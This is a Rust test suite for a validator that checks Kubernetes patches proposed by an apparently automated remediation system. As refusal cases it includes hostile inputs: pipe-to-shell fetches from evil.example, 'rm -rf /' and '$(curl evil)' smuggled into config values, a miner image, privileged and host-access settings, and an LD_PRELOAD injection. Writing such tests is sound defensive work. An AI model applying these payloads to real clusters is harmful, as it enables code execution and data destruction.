        assert!(verdict(container(json!({"image": "registry.local:5000/shop/checkout:1.4.1"}))).allowed());
        assert!(verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "15"}]}))).allowed());
    }

    #[test]
    fn every_reason_is_listed_not_only_the_first() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "4Gi", "cpu": "4"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::Factor { path, .. } if path.ends_with("memory"))), "{}", v.summary());
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })));
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { path, .. } if path.ends_with("limits.cpu"))));
        assert!(has(&v, |r| matches!(r, Refusal::Capacity { resource: "memory", .. })));
        assert!(has(&v, |r| matches!(r, Refusal::Capacity { resource: "CPU", .. })));
        assert_eq!(v.refusals.len(), 5, "{}", v.summary());
    }

    #[test]
    fn numeric_changes_are_bounded_both_ways() {
        assert!(has(
            &verdict(json!({"spec": {"replicas": 5}})),
            |r| matches!(r, Refusal::Factor { factor, .. } if *factor == 2.0)
        ));
        assert!(has(&verdict(json!({"spec": {"replicas": 0}})), |r| matches!(r, Refusal::Factor { .. })));
        assert!(verdict(json!({"spec": {"replicas": 1}})).allowed());
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "1000"}]})));
        assert!(has(&v, |r| matches!(r, Refusal::Factor { .. })), "{}", v.summary());
    }

    #[test]
    fn a_new_number_needs_a_ceiling() {
        let mut r = rules();
        r.allowed_paths.push(format!("{C}.resources.requests"));
        let patch = container(json!({"resources": {"requests": {"memory": "64Gi"}}}));
        let v = check(
            &r,
            &TARGET,
            &current(),
            &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
        );
        assert!(has(&v, |r| matches!(r, Refusal::Unbounded { .. })), "{}", v.summary());
    }

    #[test]
    fn privilege_and_host_access_are_always_refused() {
        let mut wide = rules();
        wide.allowed_paths = vec!["spec".into()];
        for patch in [
            container(json!({"securityContext": {"privileged": true}})),
            container(json!({"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}})),
            json!({"spec": {"template": {"spec": {"securityContext": {"runAsUser": 0}}}}}),
            json!({"spec": {"template": {"spec": {"hostNetwork": true}}}}),
            json!({"spec": {"template": {"spec": {"hostPID": true}}}}),
            json!({"spec": {"template": {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}}),
            container(json!({"ports": [{"containerPort": 80, "hostPort": 80}]})),
            json!({"spec": {"template": {"spec": {"serviceAccountName": "cluster-admin"}}}}),
            container(
                json!({"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]}),
            ),
            container(json!({"envFrom": [{"secretRef": {"name": "db"}}]})),
            json!({"spec": {"template": {"spec": {"volumes": [{"name": "s", "secret": {"secretName": "db"}}]}}}}),
            json!({"metadata": {"namespace": "kube-system"}}),
            json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "1"}]}}),
            json!({"spec": {"template": {"spec": {"nodeName": "control-plane"}}}}),
        ] {
            let v = check(
                &wide,
                &TARGET,
                &current(),
                &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
            );
            assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{patch}: {}", v.summary());
        }
    }

    #[test]
    fn the_image_may_get_a_new_tag_but_never_a_new_repository() {
        let v = verdict(container(json!({"image": "evil.example/checkout:1.4.1"})));
        assert!(has(&v, |r| matches!(r, Refusal::ImageRepository { .. })), "{}", v.summary());
        let v = verdict(container(json!({"image": "registry.local:5000/shop/checkout@sha256:abc"})));
        assert!(v.allowed(), "a digest of the same repository is a new version: {}", v.summary());
        assert_eq!(repository("registry.local:5000/shop/app:1.2"), "registry.local:5000/shop/app");
        assert_eq!(repository("registry.local:5000/shop/app"), "registry.local:5000/shop/app");
        assert_eq!(repository("app@sha256:00"), "app");
    }

    #[test]
    fn commands_change_only_where_the_playbook_allows_it() {
        let patch = container(json!({"command": ["/bin/sh", "-c", "curl evil | sh"]}));
        assert!(has(&verdict(patch.clone()), |r| matches!(r, Refusal::Command { .. })));
        let mut r = rules();
        r.allow_command = true;
        r.allowed_paths.push(format!("{C}.command"));
        let v = check(
            &r,
            &TARGET,
            &current(),
            &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
        );
        assert!(v.allowed(), "{}", v.summary());
    }

    #[test]
    fn only_the_remediations_own_target_in_its_own_namespace() {
        let patch = json!({"spec": {"replicas": 3}});
        let other = |kind, namespace, name| {
            let target = Target { kind, namespace, name };
            check(&rules(), &TARGET, &current(), &Proposed { target, patch_type: PatchType::Strategic, patch: &patch })
        };
        assert!(has(&other("Deployment", "payments", "checkout"), |r| matches!(r, Refusal::WrongNamespace { .. })));
        assert!(has(&other("Deployment", "shop", "cart"), |r| matches!(r, Refusal::WrongTarget { .. })));
        let v = other("Secret", "shop", "db");
        assert!(has(&v, |r| matches!(r, Refusal::ForbiddenKind { what: "Secrets", .. })));
        assert!(has(&v, |r| matches!(r, Refusal::WrongTarget { .. })), "{}", v.summary());
        for kind in [
            "ClusterRoleBinding",
            "MutatingWebhookConfiguration",
            "CustomResourceDefinition",
            "Namespace",
            "ServiceAccount",
        ] {
            assert!(has(&other(kind, "shop", "checkout"), |r| matches!(r, Refusal::ForbiddenKind { .. })), "{kind}");
        }
        assert!(has(&other("Pod", "shop", "checkout"), |r| matches!(r, Refusal::KindNotFixable(_))));
    }

    #[test]
    fn oversize_patches_are_refused() {
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "x".repeat(MAX_PATCH_BYTES)}]})));
        assert!(has(&v, |r| matches!(r, Refusal::Oversize { .. })), "{}", v.summary());
    }

    #[test]
    fn the_effect_is_judged_whatever_the_patch_format() {
        // A JSON patch by index, a strategic `$patch: replace` and a merge patch replacing the
        // container list: each is judged by what it would change.
        let json_patch = json!([{"op": "replace", "path": "/spec/template/spec/containers/0/resources/limits/memory", "value": "100Gi"}]);
        let v = verdict_as(PatchType::Json, json_patch);
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })), "{}", v.summary());
        let v =
            verdict_as(PatchType::Json, json!([{"op": "add", "path": "/metadata/namespace", "value": "kube-system"}]));
        assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{}", v.summary());
        let replace = json!({"spec": {"template": {"spec": {"containers": [
            {"$patch": "replace"}, {"name": "app", "image": "evil.example/miner:1", "securityContext": {"privileged": true}}]}}}});
        let v = verdict(replace);
        assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{}", v.summary());
        let merge =
            json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "evil.example/miner:1"}]}}}});
        let v = verdict_as(PatchType::Merge, merge);
        assert!(!v.allowed(), "a merge patch replacing the list must not pass");
        assert!(has(&verdict_as(PatchType::Json, json!({"not": "ops"})), |r| matches!(r, Refusal::DoesNotApply(_))));
        assert!(has(&verdict_as(PatchType::Strategic, json!(["x"])), |r| matches!(r, Refusal::DoesNotApply(_))));
    }

    #[test]
    fn a_new_container_needs_its_own_allowance() {
        let patch = json!({"spec": {"template": {"spec": {"containers": [{"name": "sidecar", "image": "busybox"}]}}}});
        let v = verdict(patch);
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { path, .. } if path == C)), "{}", v.summary());
    }

    #[test]
    fn bounds_cannot_be_dodged_by_notation_removal_or_text() {
        // Exponents are quantities too, and are bounded like any other.
        let v = verdict(container(json!({"resources": {"limits": {"memory": "1e12"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })), "{}", v.summary());
        // Removing a bounded number (an unlimited container) or replacing it by text.
        let v = verdict(container(json!({"resources": {"limits": {"memory": null}}})));
        assert!(has(&v, |r| matches!(r, Refusal::NotNumeric { .. })), "{}", v.summary());
        let v = verdict_as(
            PatchType::Json,
            json!([{"op": "remove", "path": "/spec/template/spec/containers/0/resources/limits/memory"}]),
        );
        assert!(has(&v, |r| matches!(r, Refusal::NotNumeric { .. })), "{}", v.summary());
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "1_000"}]})));
        assert!(has(&v, |r| matches!(r, Refusal::FreeText { .. })), "{}", v.summary());
    }

    #[test]
    fn broad_allowances_still_refuse_new_images_scheduling_and_secret_pulls() {
        let mut wide = rules();
        wide.allowed_paths = vec!["spec".into()];
        for patch in [
            json!({"spec": {"template": {"spec": {"initContainers": [{"name": "x", "image": "evil.example/miner:1"}]}}}}),
            json!({"spec": {"template": {"spec": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}}}}),
            json!({"spec": {"template": {"spec": {"tolerations": [{"operator": "Exists"}]}}}}),
            json!({"spec": {"template": {"spec": {"imagePullSecrets": [{"name": "registry"}]}}}}),
            json!({"spec": {"template": {"spec": {"shareProcessNamespace": true}}}}),
            json!({"spec": {"template": {"spec": {"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["db"]}]}}}}),
            json!({"spec": {"template": {"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]}}}}),
            json!({"spec": {"selector": {"matchLabels": {"app": "other"}}}}),
        ] {
            let v = check(
                &wide,
                &TARGET,
                &current(),
                &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
            );
            assert!(!v.allowed(), "{patch} passed");
        }
    }

    #[test]
    fn a_patch_that_changes_nothing_is_refused() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "256Mi"}}})));
        assert_eq!(v.refusals, vec![Refusal::NoChange]);
    }

    #[test]
    fn rules_come_from_the_playbook_with_ceilings_where_its_parameters_go() {
        use crate::api::playbook::{ParameterType, PatchMode};
        use crate::api::validate::ValidParameter;
        let pb = ValidPlaybook {
            target_kinds: vec![],
            reads: vec![],
            diagnoses_only: false,
            requires: vec![],
            patch_mode: PatchMode::Template,
            patch_type: PatchType::Strategic,
            template: Some(
                "spec:\n  template:\n    spec:\n      containers:\n        - name: \"{{ labels.container }}\"\n          resources:\n            limits:\n              memory: \"{{ params.memory }}\"\n".into(),
            ),
            parameters: vec![ValidParameter {
                name: "memory".into(),
                type_: ParameterType::Quantity,
                value: "current * 2".into(),
                min: None,
                max: Some(2.0 * 1024.0 * 1024.0 * 1024.0),
                max_factor: Some(3.0),
                allowed: vec![],
                newer: false,
                delegate: false,
            }],
            allowed_paths: vec![format!("{C}.resources.limits.memory")],
            verify: None,
            rollback_on_failure: true,
            agent_instructions: None,
            rollout: Default::default(),
            values: vec![],
        };
        let r = Rules::from_playbook(&pb);
        assert_eq!(r.max_factor, 3.0);
        assert_eq!(r.ceilings, vec![(format!("{C}.resources.limits.memory"), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        assert_eq!(r.allowed_paths, pb.allowed_paths);

        // A field named by the alert gets its ceiling once the run's placeholders resolve;
        // an unquoted parameter does not hide its placement.
        let config = ValidPlaybook {
            template: Some("data:\n  \"{{ labels.key }}\": {{ params.memory }}\n".into()),
            allowed_paths: vec!["data".into()],
            ..pb.clone()
        };
        let lookup = |n: &str| (n == "labels.key").then(|| "POOL".to_owned());
        let r = Rules::from_playbook_in(&config, &lookup);
        assert_eq!(r.ceilings, vec![("data.POOL".to_owned(), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        // A value that is not inert stays a placeholder (and so matches no field).
        let r = Rules::from_playbook_in(&config, &|_| Some("a b".into()));
        assert_eq!(r.ceilings, vec![("data.{{ labels.key }}".to_owned(), 2.0 * 1024.0 * 1024.0 * 1024.0)]);
        // A template that is not YAML allows nothing.
        let broken = ValidPlaybook { template: Some("data: [\n".into()), ..pb };
        assert!(Rules::from_playbook(&broken).allowed_paths.is_empty());
    }

    fn defaults(kind: &str, current: &Value, patch: Value) -> Verdict {
        let target = Target { kind, namespace: "shop", name: "checkout" };
        check(
            &Rules::default_for(kind),
            &target,
            current,
            &Proposed { target: target.clone(), patch_type: PatchType::Strategic, patch: &patch },
        )
    }

    #[test]
    fn with_no_playbook_only_bounded_resources_replicas_and_newer_images_change() {
        let d = |patch| defaults("Deployment", &current(), patch);
        // Bounded: within the factor and the ceiling, an existing field, a newer tag.
        assert!(d(container(json!({"resources": {"limits": {"memory": "512Mi", "cpu": "1"}}}))).allowed());
        assert!(d(json!({"spec": {"replicas": 4}})).allowed());
        assert!(d(container(json!({"image": "registry.local:5000/shop/checkout:1.4.1"}))).allowed());
        // A downgrade, the same version, a variant switch, a digest, a non-version tag.
        for image in [
            "registry.local:5000/shop/checkout:1.2.0",
            "registry.local:5000/shop/checkout:1.4",
            "registry.local:5000/shop/checkout:1.5.0-debug",
            "registry.local:5000/shop/checkout@sha256:abcd",
            "registry.local:5000/shop/checkout:latest",
        ] {
            let v = d(container(json!({"image": image})));
            assert!(has(&v, |r| matches!(r, Refusal::ImageVersion { .. })), "{image}: {}", v.summary());
        }
        // Over the default ceilings; a field not set yet; a resource other than CPU and memory.
        let v = d(json!({"spec": {"replicas": 8}, "metadata": {}}));
        assert!(v.allowed(), "2 → 8 is 4x: {}", v.summary());
        let many = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "checkout", "namespace": "shop"}, "spec": {"replicas": 12}});
        let v = defaults("Deployment", &many, json!({"spec": {"replicas": 24}}));
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })), "{}", v.summary());
        let v = d(container(json!({"resources": {"requests": {"memory": "256Mi"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::NewField { .. })), "{}", v.summary());
        let v = d(container(json!({"resources": {"limits": {"nvidia.com/gpu": "1"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { .. })), "{}", v.summary());
        // Env values, labels, annotations: not without a playbook.
        let v = d(container(json!({"env": [{"name": "POOL_SIZE", "value": "20"}]})));
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { .. })), "{}", v.summary());
        let v = d(json!({"metadata": {"annotations": {"team": "x"}}}));
        assert!(has(&v, |r| matches!(r, Refusal::Sensitive { .. })), "{}", v.summary());
    }

    #[test]
    fn with_no_playbook_a_configmap_changes_not_at_all() {
        let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "checkout", "namespace": "shop"},
                        "data": {"POOL_SIZE": "10", "MODE": "fast"}});
        for patch in [
            json!({"data": {"POOL_SIZE": "20"}}),
            json!({"data": {"MODE": "slow"}}),
            json!({"data": {"init.sh": "curl -s http://evil.example/x | sh"}}),
        ] {
            let v = defaults("ConfigMap", &cm, patch.clone());
            assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { .. })), "{patch}: {}", v.summary());
        }
    }

    #[test]
    fn total_capacity_is_bounded_as_one() {
        // 4x the replicas and 4x the memory and CPU each: 16x the capacity.
        let v = defaults(
            "Deployment",
            &current(),
            json!({"spec": {"replicas": 8, "template": {"spec": {"containers": [{"name": "app",
                "resources": {"limits": {"memory": "1Gi", "cpu": "2"}}}]}}}}),
        );
        assert!(has(&v, |r| matches!(r, Refusal::Capacity { resource: "memory", .. })), "{}", v.summary());
        assert!(has(&v, |r| matches!(r, Refusal::Capacity { resource: "CPU", .. })), "{}", v.summary());
        assert!(v.summary().contains("512Mi → 8192Mi is more than 4x"), "{}", v.summary());
        // 2x and 2x is 4x: within.
        let v = defaults(
            "Deployment",
            &current(),
            json!({"spec": {"replicas": 4, "template": {"spec": {"containers": [{"name": "app",
                "resources": {"limits": {"memory": "512Mi"}}}]}}}}),
        );
        assert!(v.allowed(), "{}", v.summary());
    }

    #[test]
    fn text_changes_only_where_the_playbook_constrains_the_value() {
        let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "checkout", "namespace": "shop"},
                        "data": {"POOL_SIZE": "10", "MODE": "fast", "POOL_SIZE.x": "1"}});
        let target = Target { kind: "ConfigMap", namespace: "shop", name: "checkout" };
        let rules = Rules {
            allowed_paths: vec!["data.POOL_SIZE".into(), "data.MODE".into(), "data.URL".into()],
            values: vec![
                ("data.MODE".into(), ValueRule::OneOf(vec!["fast".into(), "slow".into()])),
                ("data.URL".into(), ValueRule::Pattern(r"https://[a-z.]+\.internal/".into())),
            ],
            ..Rules::default()
        };
        let v = |patch: Value| {
            check(
                &rules,
                &target,
                &cm,
                &Proposed { target: target.clone(), patch_type: PatchType::Merge, patch: &patch },
            )
        };
        assert!(v(json!({"data": {"MODE": "slow"}})).allowed());
        assert!(v(json!({"data": {"POOL_SIZE": "20"}})).allowed(), "a number is bounded by the factor");
        assert!(v(json!({"data": {"URL": "https://db.internal/"}})).allowed());
        let r = v(json!({"data": {"MODE": "fast; rm -rf /"}}));
        assert!(has(&r, |x| matches!(x, Refusal::Value { .. })), "{}", r.summary());
        let r = v(json!({"data": {"URL": "https://evil.example/"}}));
        assert!(has(&r, |x| matches!(x, Refusal::Value { .. })), "{}", r.summary());
        let r = v(json!({"data": {"POOL_SIZE": "$(curl evil)"}}));
        assert!(has(&r, |x| matches!(x, Refusal::FreeText { .. })), "{}", r.summary());
        // One segment is one whole key: data.POOL_SIZE does not allow the key "POOL_SIZE.x".
        let r = v(json!({"data": {"POOL_SIZE.x": "2"}}));
        assert!(
            has(&r, |x| matches!(x, Refusal::PathNotAllowed { path, .. } if path == "data.POOL_SIZE.x")),
            "{}",
            r.summary()
        );
    }

    #[test]
    fn sensitive_fields_change_only_where_an_allowed_path_names_them() {
        let mut wide = rules();
        wide.allowed_paths = vec!["spec".into()];
        let judged = |r: &Rules, patch: Value| {
            check(r, &TARGET, &current(), &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch })
        };
        for patch in [
            json!({"spec": {"template": {"metadata": {"labels": {"app": "other"}}}}}),
            json!({"spec": {"template": {"metadata": {"annotations": {"sidecar.istio.io/inject": "true"}}}}}),
            json!({"spec": {"template": {"spec": {"volumes": [{"name": "data", "emptyDir": {}}]}}}}),
            container(json!({"envFrom": [{"configMapRef": {"name": "other"}}]})),
            container(json!({"livenessProbe": {"exec": {"command": ["sh", "-c", "curl evil"]}}})),
            container(json!({"lifecycle": {"postStart": {"exec": {"command": ["sh"]}}}})),
            json!({"spec": {"template": {"spec": {"schedulerName": "mine"}}}}),
            json!({"spec": {"template": {"spec": {"hostname": "db"}}}}),
            json!({"spec": {"template": {"spec": {"subdomain": "db"}}}}),
            json!({"spec": {"template": {"spec": {"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]}}}}),
            json!({"spec": {"template": {"spec": {"resourceClaims": [{"name": "gpu"}]}}}}),
            json!({"spec": {"template": {"spec": {"tolerations": [{"operator": "Exists"}]}}}}),
            json!({"spec": {"template": {"spec": {"affinity": {"nodeAffinity": {}}}}}}),
            json!({"spec": {"template": {"spec": {"priorityClassName": "system-cluster-critical"}}}}),
            json!({"spec": {"template": {"spec": {"runtimeClassName": "unconfined"}}}}),
            json!({"spec": {"template": {"spec": {"automountServiceAccountToken": true}}}}),
            json!({"spec": {"template": {"spec": {"shareProcessNamespace": true}}}}),
            json!({"spec": {"paused": true}}),
        ] {
            let v = judged(&wide, patch.clone());
            assert!(has(&v, |r| matches!(r, Refusal::Sensitive { .. })), "{patch}: {}", v.summary());
        }
        // Named exactly, with its value constrained: allowed.
        let key = "spec.template.metadata.annotations.kubectl.kubernetes.io/restartedAt";
        let exact = Rules {
            allowed_paths: vec![key.into()],
            values: vec![(key.into(), ValueRule::Pattern(TIMESTAMP.into()))],
            ..rules()
        };
        let restart = json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-12-01T10:00:00Z"}}}}});
        let v = judged(&exact, restart);
        assert!(v.allowed(), "{}", v.summary());
        // The dotted annotation key is one key: it is not "kubectl" with children.
        let other =
            json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt.x": "1"}}}}});
        assert!(!judged(&exact, other).allowed());
        let paused = Rules { allowed_paths: vec!["spec.paused".into()], values: vec![], ..rules() };
        assert!(judged(&paused, json!({"spec": {"paused": true}})).allowed());
    }

    #[test]
    fn a_new_list_items_keys_are_values_like_any_other() {
        let mut r = rules();
        r.allowed_paths.push(format!("{C}.env"));
        r.values.push((format!("{C}.env[*].value"), ValueRule::OneOf(vec!["1".into()])));
        let patch = container(json!({"env": [{"name": "LD_PRELOAD", "value": "1"}]}));
        let v = check(
            &r,
            &TARGET,
            &current(),
            &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
        );
        assert!(
            has(
                &v,
                |x| matches!(x, Refusal::FreeText { path, to } if path.ends_with("env[*].name") && to == "LD_PRELOAD")
            ),
            "{}",
            v.summary()
        );
    }

    #[test]
    fn the_servers_answer_is_judged_like_the_emulation() {
        // The API server's answer holds a field the emulated merge did not: judged all the same.
        let mut stored = current();
        stored["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"] = json!("512Mi");
        stored["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
        stored["metadata"]["generation"] = json!(7);
        stored["metadata"]["resourceVersion"] = json!("99");
        stored["status"] = json!({"replicas": 2});
        let v = effect(&rules(), "Deployment", &current(), &stored);
        assert_eq!(v.refusals.len(), 1, "{}", v.summary());
        assert!(has(&v, |r| matches!(r, Refusal::Forbidden { path, .. } if path.ends_with("hostNetwork"))));
        // Only the server's own fields differ: nothing changed.
        let mut same = current();
        same["metadata"]["managedFields"] = json!([{"manager": "x"}]);
        assert_eq!(effect(&rules(), "Deployment", &current(), &same).refusals, vec![Refusal::NoChange]);
    }

    #[test]
    fn template_playbooks_constrain_the_values_they_render() {
        use crate::api::playbook::PatchMode;
        use crate::api::validate::ValidParameter;
        let pb = ValidPlaybook {
            target_kinds: vec![],
            reads: vec![],
            diagnoses_only: false,
            requires: vec![],
            patch_mode: PatchMode::Template,
            patch_type: PatchType::Merge,
            template: Some("data:\n  MODE: \"{{ params.mode }}\"\n  LEVEL: debug\n  AT: \"{{ now }}\"\n".into()),
            parameters: vec![ValidParameter {
                name: "mode".into(),
                type_: ParameterType::String,
                value: "'fast'".into(),
                min: None,
                max: None,
                max_factor: None,
                allowed: vec!["fast".into(), "slow".into()],
                newer: false,
                delegate: false,
            }],
            allowed_paths: vec!["data".into()],
            verify: None,
            rollback_on_failure: true,
            agent_instructions: None,
            rollout: Default::default(),
            values: vec![],
        };
        let r = Rules::from_playbook(&pb);
        assert!(
            r.values.contains(&("data.MODE".into(), ValueRule::OneOf(vec!["fast".into(), "slow".into()]))),
            "{:?}",
            r.values
        );
        assert!(r.values.contains(&("data.LEVEL".into(), ValueRule::OneOf(vec!["debug".into()]))), "{:?}", r.values);
        assert!(r.values.contains(&("data.AT".into(), ValueRule::Pattern(TIMESTAMP.into()))), "{:?}", r.values);
    }

    #[test]
    fn number_looking_text_is_text_outside_resources() {
        let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"},
                        "data": {"POOL_SIZE": "10"}});
        let target = Target { kind: "ConfigMap", namespace: "shop", name: "c" };
        let ranged = Rules {
            allowed_paths: vec!["data.POOL_SIZE".into()],
            values: vec![("data.POOL_SIZE".into(), ValueRule::Range { min: Some(1.0), max: Some(50.0) })],
            ..Rules::default()
        };
        let open = Rules { allowed_paths: vec!["data.POOL_SIZE".into()], ..Rules::default() };
        let v = |rules: &Rules, to: &str| {
            let patch = json!({"data": {"POOL_SIZE": to}});
            check(
                rules,
                &target,
                &cm,
                &Proposed { target: target.clone(), patch_type: PatchType::Merge, patch: &patch },
            )
        };
        for to in ["40000m", "4e1", "0010", "+20", "20.", ".5", "1Ki"] {
            assert!(!v(&ranged, to).allowed(), "{to} passed the range");
            assert!(has(&v(&open, to), |r| matches!(r, Refusal::FreeText { .. })), "{to}: {}", v(&open, to).summary());
        }
        assert!(v(&ranged, "40").allowed());
        assert!(v(&open, "20").allowed());
    }

    #[test]
    fn rewriting_field_ownership_is_refused() {
        let patch = json!({"metadata": {"managedFields": [{"manager": "argocd-controller", "operation": "Apply"}]}, "spec": {"replicas": 3}});
        let v = verdict_as(PatchType::Merge, patch);
        assert!(
            has(&v, |r| matches!(r, Refusal::Forbidden { path, .. } if path == "metadata.managedFields")),
            "{}",
            v.summary()
        );
    }

    #[test]
    fn a_constrained_value_is_changed_not_removed_and_rollbacks_keep_the_factor() {
        let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "shop"},
                        "data": {"TLS_VERIFY": "true"}});
        let target = Target { kind: "ConfigMap", namespace: "shop", name: "c" };
        let rules = Rules {
            allowed_paths: vec!["data.TLS_VERIFY".into()],
            values: vec![("data.TLS_VERIFY".into(), ValueRule::OneOf(vec!["true".into(), "false".into()]))],
            ..Rules::default()
        };
        let patch = json!({"data": {"TLS_VERIFY": null}});
        let v = check(
            &rules,
            &target,
            &cm,
            &Proposed { target: target.clone(), patch_type: PatchType::Merge, patch: &patch },
        );
        assert!(has(&v, |r| matches!(r, Refusal::Removed { .. })), "{}", v.summary());
        assert!(v.fixed().is_empty(), "undoing an added key may remove it: {}", v.summary());
        // A restore far past the factor is no undo: a rollback must not do it.
        let v = verdict(json!({"spec": {"replicas": 5000}}));
        assert!(v.fixed().iter().any(|r| matches!(r, Refusal::Factor { .. })), "{}", v.summary());
    }

    #[test]
    fn reordering_a_keyed_list_is_a_change_of_its_own() {
        let two = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "checkout", "namespace": "shop"},
            "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "app", "image": "registry.local:5000/shop/checkout:1.4.0",
                "resources": {"limits": {"memory": "256Mi"}},
                "env": [{"name": "HOST", "value": "db"}, {"name": "URL", "value": "http://$(HOST)"}]}]}}}});
        let mut rules = rules();
        rules.allowed_paths = vec![format!("{C}.resources.limits.memory")];
        // An allowed raise, with the env entries swapped (so $(HOST) no longer expands).
        let patch = json!([{"op": "replace", "path": "/spec/template/spec/containers/0/resources/limits/memory", "value": "512Mi"},
                           {"op": "move", "from": "/spec/template/spec/containers/0/env/0", "path": "/spec/template/spec/containers/0/env/1"}]);
        let v = check(&rules, &TARGET, &two, &Proposed { target: TARGET, patch_type: PatchType::Json, patch: &patch });
        assert!(
            has(&v, |r| matches!(r, Refusal::PathNotAllowed { path, .. } if path.ends_with("containers[*].env"))),
            "{}",
            v.summary()
        );
        let raise = json!([{"op": "replace", "path": "/spec/template/spec/containers/0/resources/limits/memory", "value": "512Mi"}]);
        let v = check(&rules, &TARGET, &two, &Proposed { target: TARGET, patch_type: PatchType::Json, patch: &raise });
        assert!(v.allowed(), "the raise alone: {}", v.summary());
    }
}
